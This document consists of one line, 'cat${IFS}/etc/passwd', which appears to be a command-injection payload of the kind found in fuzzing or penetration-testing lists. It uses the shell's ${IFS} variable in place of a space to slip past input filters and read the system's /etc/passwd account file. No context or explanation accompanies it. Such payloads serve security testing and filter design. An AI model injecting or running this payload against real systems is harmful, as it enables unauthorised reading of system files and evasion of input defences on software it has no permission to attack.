cat${IFS}/etc/passwd
